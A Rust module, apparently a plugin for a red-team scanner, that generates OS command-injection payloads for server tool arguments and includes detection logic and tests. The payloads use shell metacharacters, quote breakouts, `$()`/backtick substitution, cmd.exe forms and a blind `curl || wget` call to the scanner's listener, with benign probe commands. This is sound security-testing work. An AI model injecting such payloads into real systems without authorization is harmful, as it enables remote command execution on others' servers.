//! Argument text that a shell runs.

use std::time::Duration;

use quintain_content::registry::Meta;
use quintain_evidence::finding::Severity;
use quintain_evidence::indicator::Indicator;
use quintain_evidence::weakness::Weakness;

use super::{reach, tool_contract, traces};
use crate::attack::{Aim, Attack, Attempt, Brief, Hit, Kind, TargetView, Trial, Tried};

pub(super) struct CommandInjection;

static META: Meta = Meta {
    id: "command-injection",
    aliases: &["shell-injection", "os-command-injection"],
    summary: "The server passes argument text to a shell",
    docs: "\
# What it does
Hides short commands in every text argument, and in numbers that the server may accept as text: after `;`, `|`, `&` or a line break, in
backticks and `$()`, bare and after a closing quote, after the innocent value and instead of it, with and without spaces. Commands also go
into the names of existing files. The commands add two random numbers, create a marker file in a temporary folder, or connect to
Quintain's listener. If neither files nor connections can be watched, the commands wait.

# Why it matters
An attacker who controls the argument, or the model that writes it, can run programs as the user of the server.

# What counts as proof
- The response contains the sum of two random numbers, which is not in the request.
- The marker file appears.
- The listener receives a connection with the nonce of the attempt.
- Every response takes as long as its command waits.

A response that only repeats the payload proves nothing. If the tool states that it runs commands, the finding is by design.

# Example
```yaml
redteam:
  plugins: [command-injection]
```

# References
- CWE-78, OWASP MCP05
",
    since: "0.1.0",
};

static WEAKNESS: Weakness = Weakness {
    severity: Severity::Critical,
    cwe: &[78],
    frameworks: &["MCP05", "ASI05", "ASI02", "LLM05"],
};

const KINDS: [Kind; 9] = [
    Kind::Command,
    Kind::Host,
    Kind::Name,
    Kind::Path,
    Kind::Url,
    Kind::Id,
    Kind::Filter,
    Kind::Pattern,
    Kind::Expression,
];

/// How commands break out of the text around them. Each command goes between `before` and `behind`, and `end`
/// closes what is still open. The digit in `end` changes the result of a calculator that drops everything
/// except arithmetic.
struct Shape {
    form: &'static str,
    open: &'static str,
    before: &'static str,
    behind: &'static str,
    end: &'static str,
    /// Whether the innocent value stays in front.
    keeps: bool,
}

const fn shape(
    form: &'static str,
    open: &'static str,
    (before, behind): (&'static str, &'static str),
    end: &'static str,
) -> Shape {
    Shape { form, open, before, behind, end, keeps: true }
}

const fn alone(shape: Shape) -> Shape {
    Shape { keeps: false, ..shape }
}

/// The most likely first. The first `RARE` are tried everywhere.
const SHAPES: [Shape; 12] = [
    shape("shell metacharacter `;`", "", (";", ""), " #9"),
    shape("command substitution `$()`", "", ("$(", ")"), "9"),
    shape("closing double quote and `;`", "\"", (";", ""), " #9"),
    shape("closing single quote and `;`", "'", (";", ""), " #9"),
    shape("shell metacharacter `|`", "", ("|", ""), " #9"),
    shape("line break", "", ("\n", ""), " #9\n"),
    shape("command substitution in backticks", "", ("`", "`"), "9"),
    shape("command substitution `$()` between single quotes", "'", ("$(", ")"), "9'"),
    shape("shell metacharacter `&`", "", ("&", ""), " #9"),
    shape("command substitution `$()` without spaces", "", ("$(", ")"), "9"),
    alone(shape("shell metacharacter `;` instead of the value", "", (";", ""), " #9")),
    alone(shape("command substitution `$()` instead of the value", "", ("$(", ")"), "9")),
];
const RARE: usize = 8;
const WITHOUT_SPACES: usize = 9;

/// For `cmd.exe`.
const WINDOWS: [Shape; 3] = [
    shape("shell metacharacter `&` on Windows", "", ("& ", ""), " & rem 9"),
    shape("closing double quote and `&` on Windows", "\"", ("& ", ""), " & rem 9"),
    shape("shell metacharacter `|` on Windows", "", ("| ", ""), " & rem 9"),
];

/// The text around a command in the name of an existing file or folder.
const LODGED: [(&str, &str, &str); 3] = [
    ("command substitution `$()` in the name of an existing folder", "$(", ")"),
    ("closing single quote in the name of an existing folder", "';", ";'"),
    ("command substitution `$()` in the name of an existing file", "$(", ").txt"),
];

/// Shapes for blind attempts, which call the listener or wait.
const BLIND: [usize; 3] = [0, 1, 3];

impl Shape {
    fn around(&self, innocent: &str, commands: &[String]) -> String {
        let mut text = if self.keeps { innocent.to_owned() } else { String::new() };
        text.push_str(self.open);
        for command in commands {
            text.extend([self.before, command, self.behind]);
        }
        text.push_str(self.end);
        text
    }
}

impl Attack for CommandInjection {
    fn meta(&self) -> Meta {
        META
    }

    fn has_one_fault(&self) -> bool {
        true
    }

    fn weakness(&self) -> Weakness<'static> {
        WEAKNESS
    }

    fn aims(&self, view: &TargetView<'_>) -> Vec<Aim> {
        let mut aims = view.texts_in_modes(&KINDS, false);
        aims.extend(view.numbers());
        for aim in &mut aims {
            aim.by_design = tool_contract::of_commands(view, aim);
        }
        aims
    }

    fn attempts(&self, aim: &Aim, brief: &Brief<'_>) -> Vec<Attempt> {
        let likely = aim.kinds.iter().any(|kind| KINDS.contains(kind));
        let count = if likely { SHAPES.len() } else { RARE };
        let mut attempts =
            AttemptBuilder { aim, brief, innocent: reach::plausible(aim), made: Vec::new() };
        for (at, shape) in SHAPES.iter().take(count).enumerate() {
            attempts.computed(shape, at == WITHOUT_SPACES);
        }
        // A target that shares Quintain's files runs on the same operating system.
        if brief.canaries.is_none() || cfg!(windows) {
            WINDOWS.iter().for_each(|shape| attempts.on_windows(shape));
        }
        if aim.is(Kind::Path) {
            attempts.in_existing_path();
        }
        let blind = BLIND.iter().map(|at| &SHAPES[*at]);
        if brief.listener.is_some() {
            blind.for_each(|shape| attempts.calling(shape));
        } else if brief.canaries.is_none() && likely {
            blind.for_each(|shape| attempts.waiting(shape));
        }
        attempts.made
    }

    fn expects(&self, set: &[Attempt], _: &TargetView<'_>) -> Option<(usize, Indicator)> {
        let [only] = set else { return None };
        let adds = only.role.len() > 2 && only.role.bytes().all(|byte| byte.is_ascii_digit());
        only.foretells().filter(|_| adds).map(|sign| (0, sign))
    }

    fn detect(&self, trial: &Trial<'_>) -> Vec<Hit> {
        let mut hits = Vec::new();
        for (_, set) in trial.sets() {
            if let [only] = set.as_slice() {
                hits.extend(proof(only).map(|what| hit(trial, only, what)));
            } else if let (Some(what), Some(last)) = (waits(trial, &set), set.last()) {
                hits.push(hit(trial, last, what));
            }
        }
        hits
    }
}

/// Builds the attempts, one set for each form.
struct AttemptBuilder<'a> {
    aim: &'a Aim,
    brief: &'a Brief<'a>,
    innocent: String,
    made: Vec<Attempt>,
}

impl AttemptBuilder<'_> {
    fn next_set(&self) -> usize {
        self.made.last().map_or(0, |last| last.set + 1)
    }

    /// Adds two numbers, and creates a marker file if files can be watched.
    fn computed(&mut self, shape: &Shape, without_spaces: bool) {
        let nonce = self.brief.nonce();
        let (a, b) = traces::summands(self.brief);
        // `expr` and `touch` exist everywhere and need no special characters. `expr` comes last, since only the
        // last command of a pipe prints its output.
        let marker = traces::marker(self.brief, &nonce).map(|path| format!("touch {path}"));
        let mut commands: Vec<String> = marker.into_iter().collect();
        commands.push(format!("expr {a} + {b}"));
        if without_spaces {
            // `$9` is empty and ends the name before it. URLs keep these characters unchanged.
            commands.iter_mut().for_each(|command| *command = command.replace(' ', "$IFS$9"));
        }
        let payload = shape.around(&self.innocent, &commands);
        let set = (self.next_set(), shape.form);
        let attempt = reach::attempt(self.aim, set, nonce, payload);
        self.made.extend(attempt.map(|attempt| Attempt { role: (a + b).to_string(), ..attempt }));
    }

    /// Puts commands into paths that exist: the engine creates paths that contain a marker. Some servers check
    /// that a path exists before they pass it to a shell.
    fn in_existing_path(&mut self) {
        let Some(canaries) = self.brief.canaries else { return };
        let folder = self.brief.roots.first().cloned();
        let folder = folder.unwrap_or_else(|| canaries.root.join("inside"));
        for (form, open, close) in LODGED {
            let nonce = self.brief.nonce();
            let Some(marker) = traces::marker(self.brief, &nonce) else { return };
            let payload = format!("{}/q{open}touch {marker}{close}", folder.display());
            let attempt = reach::attempt(self.aim, (self.next_set(), form), nonce, payload);
            self.made.extend(attempt);
        }
    }

    fn on_windows(&mut self, shape: &Shape) {
        let nonce = self.brief.nonce();
        let (a, b) = traces::summands(self.brief);
        let mut commands = vec![format!("set /a {a}+{b}")];
        let marker = traces::marker(self.brief, &nonce);
        commands.extend(marker.map(|path| format!("type nul>{path}")));
        let payload = shape.around(&self.innocent, &commands);
        let attempt = reach::attempt(self.aim, (self.next_set(), shape.form), nonce, payload);
        self.made.extend(attempt.map(|attempt| Attempt { role: (a + b).to_string(), ..attempt }));
    }

    /// Connects to the listener with a mark that a tool which only visits addresses in texts does not send.
    fn calling(&mut self, shape: &Shape) {
        let Some(listener) = self.brief.listener else { return };
        let (nonce, mark) = (self.brief.nonce(), self.brief.nonce());
        let url = listener.url(&nonce);
        // Nearly every system has one of the two.
        let curl = format!("curl -s -m 3 -A {mark} {url}");
        let command = format!("{curl}||wget -q -T 3 -U {mark} -O - {url}");
        let payload = shape.around(&self.innocent, &[command]);
        let form = format!("{}, blind", shape.form);
        let attempt = reach::attempt(self.aim, (self.next_set(), &form), nonce, payload);
        self.made.extend(attempt.map(|attempt| Attempt { role: mark.to_string(), ..attempt }));
    }

    fn waiting(&mut self, shape: &Shape) {
        let set = self.next_set();
        let form = format!("{}, time-based", shape.form);
        for seconds in WAITS {
            let payload = shape.around(&self.innocent, &[format!("sleep {seconds}")]);
            let attempt = reach::attempt(self.aim, (set, &form), self.brief.nonce(), payload);
            self.made
                .extend(attempt.map(|attempt| Attempt { role: seconds.to_string(), ..attempt }));
        }
    }
}

/// The waits of one set, in seconds.
const WAITS: [u64; 4] = [0, 2, 0, 4];

fn hit(trial: &Trial<'_>, tried: &Tried, what: String) -> Hit {
    let title = format!("Command injection in `{}` ({})", trial.aim.place, tried.attempt.form);
    let hit = Hit::confirmed(title, what).by(tried).fault("shell");
    let hit = if is_sum(tried) { hit.said(tried, &tried.attempt.role) } else { hit };
    match &trial.aim.by_design {
        Some(note) => hit.note(note).severity(Severity::Low),
        None => hit,
    }
}

fn proof(tried: &Tried) -> Option<String> {
    traces::seen(tried).or_else(|| {
        let sum = &tried.attempt.role;
        (is_sum(tried) && tried.said().contains(sum.as_str()))
            .then(|| {
                format!(
                    "the response contains {sum}, the sum of two random numbers that only a shell could have added"
                )
            })
    })
}

/// Whether the attempt adds two numbers. The roles of attempts that wait are shorter numbers.
fn is_sum(tried: &Tried) -> bool {
    let sum = &tried.attempt.role;
    sum.len() > 2 && sum.bytes().all(|byte| byte.is_ascii_digit())
}

/// Every response took as long as its command waits, plus at most one second.
fn waits(trial: &Trial<'_>, set: &[&Tried]) -> Option<String> {
    let usual = trial.baseline()?.took;
    let slack = usual + Duration::from_secs(1);
    if set.len() != WAITS.len() || usual > Duration::from_secs(1) {
        return None;
    }
    for tried in set {
        let wait = Duration::from_secs(tried.attempt.role.parse().ok()?);
        let took = tried.last()?.took;
        if took < wait || took > wait + slack {
            return None;
        }
    }
    Some(format!("the responses took as long as the commands waited: {WAITS:?} seconds"))
}

#[cfg(test)]
mod tests {
    use quintain_evidence::evidence::{Evidence, Observation};
    use serde_json::json;

    use super::*;
    use crate::attack::{Brief, MarkKey};
    use crate::attacks::testing::{TestTarget, answers};

    fn room() -> TestTarget {
        TestTarget::with_argument("ping", "host", "127.0.0.1")
    }

    fn text(attempt: &Attempt) -> String {
        attempt.payload.as_ref().unwrap().as_str().unwrap().to_owned()
    }

    fn with(observation: Observation) -> Evidence {
        Evidence { observations: vec![observation], ..answers("ok") }
    }

    #[test]
    fn the_sum_in_an_answer_is_proof() {
        let hits = room().run_attack(&CommandInjection, |attempt| answers(&attempt.role));
        assert!(hits.len() >= SHAPES.len());
        assert!(hits[0].title.contains("ping.host"), "{}", hits[0].title);
        assert_eq!(hits[0].severity, None);
    }

    #[test]
    fn an_answer_that_repeats_the_payload_is_none() {
        let echo = |attempt: &Attempt| {
            answers(&format!("sh: 1: {}: not found, {}", text(attempt), attempt.nonce))
        };
        assert!(room().run_attack(&CommandInjection, echo).is_empty());
    }

    #[test]
    fn no_payload_holds_its_sum_even_for_a_careless_calculator() {
        let room = room();
        let aim = &room.knowledge.aims[0];
        for attempt in CommandInjection.attempts(aim, &room.brief()) {
            assert!(!text(&attempt).contains(&attempt.role) || attempt.form.contains("blind"));
            let kept: String =
                text(&attempt).chars().filter(|c| c.is_ascii_digit() || *c == '+').collect();
            let terms = kept.split('+').map(|term| term.parse::<u128>().unwrap_or(0));
            assert_ne!(terms.sum::<u128>().to_string(), attempt.role, "{}", attempt.form);
        }
    }

    #[test]
    fn a_marker_is_proof_at_its_own_path_only() {
        let at = |path: String| Observation::File { path: path.into(), content: String::new() };
        let made = |attempt: &Attempt| with(at(format!("/canaries/drop/{}", attempt.nonce)));
        assert!(!room().run_attack(&CommandInjection, made).is_empty());
        // A tool that writes a file of that name.
        let named = |attempt: &Attempt| with(at(format!("/canaries/root/{}", text(attempt))));
        assert!(room().run_attack(&CommandInjection, named).is_empty());
        let other = |_: &Attempt| with(at("/canaries/drop/somethingelse".into()));
        assert!(room().run_attack(&CommandInjection, other).is_empty());
    }

    #[test]
    fn a_note_that_was_saved_is_no_marker() {
        let saved = |attempt: &Attempt| {
            let content = text(attempt);
            with(Observation::File { path: "/canaries/root/note.txt".into(), content })
        };
        assert!(room().run_attack(&CommandInjection, saved).is_empty());
    }

    #[test]
    fn a_connection_counts_with_the_mark_of_the_command() {
        let asked = |request: String, headers: Vec<String>| {
            with(Observation::Connection { request, headers })
        };
        let curl = |attempt: &Attempt| {
            let agent = format!("User-Agent: {}", attempt.role);
            asked(format!("GET /{} HTTP/1.1", attempt.nonce), vec![agent])
        };
        assert_eq!(room().run_attack(&CommandInjection, curl).len(), SHAPES.len() + BLIND.len());
        let preview = |attempt: &Attempt| {
            asked(format!("GET /{} HTTP/1.1", attempt.nonce), vec!["User-Agent: bot".into()])
        };
        assert!(room().run_attack(&CommandInjection, preview).is_empty());
        let fetched = |attempt: &Attempt| {
            let agent = format!("User-Agent: {}", attempt.role);
            asked(format!("GET /x;curl%20/{} HTTP/1.1", attempt.nonce), vec![agent])
        };
        assert!(room().run_attack(&CommandInjection, fetched).is_empty());
    }

    #[test]
    fn waits_count_if_all_of_them_are_kept() {
        let room = room();
        let aim = &room.knowledge.aims[0];
        let judge = |took: &dyn Fn(u64) -> u64| {
            let brief = Brief::new(None, None, 1, &[], MarkKey::of_seed(3).marks("test"));
            let tried: Vec<Tried> = CommandInjection
                .attempts(aim, &brief)
                .into_iter()
                .map(|attempt| {
                    let mut evidence = answers("ok");
                    let asked = if attempt.form.contains("time-based") {
                        attempt.role.parse().unwrap()
                    } else {
                        0
                    };
                    evidence.exchanges[0].took = Duration::from_millis(took(asked));
                    Tried { attempt, evidence }
                })
                .collect();
            let view = room.view();
            CommandInjection.detect(&Trial { view: &view, aim, tried: &tried }).len()
        };
        assert_eq!(judge(&|seconds| seconds * 1000 + 30), BLIND.len());
        assert_eq!(judge(&|_| 30), 0, "never slow");
        assert_eq!(judge(&|_| 4000), 0, "always slow");
        assert_eq!(judge(&|seconds| if seconds > 0 { 2500 } else { 10 }), 0, "not as asked");
    }

    #[test]
    fn numbers_are_tried_and_shells_are_by_design() {
        let schema = json!({"type": "object", "properties": {"port": {"type": "integer"}}});
        let room = TestTarget::of_tools(&[json!({"name": "who", "inputSchema": schema})]);
        assert!(!room.run_attack(&CommandInjection, |attempt| answers(&attempt.role)).is_empty());
        let room = TestTarget::with_argument("run_command", "command", "ls");
        let hits = room.run_attack(&CommandInjection, |attempt| answers(&attempt.role));
        assert!(hits.iter().all(|hit| hit.note.is_some() && hit.severity == Some(Severity::Low)));
    }
}
